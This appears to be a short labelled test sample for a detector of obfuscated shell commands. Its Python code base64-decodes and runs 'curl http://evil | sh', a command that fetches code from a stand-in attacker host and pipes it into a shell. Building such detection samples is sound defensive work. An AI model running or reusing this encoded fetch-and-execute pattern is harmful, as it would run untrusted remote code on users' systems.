# expect: obfuscated-shell
import base64
import subprocess

subprocess.run(base64.b64decode("Y3VybCBodHRwOi8vZXZpbCB8IHNo").decode(), shell=True)
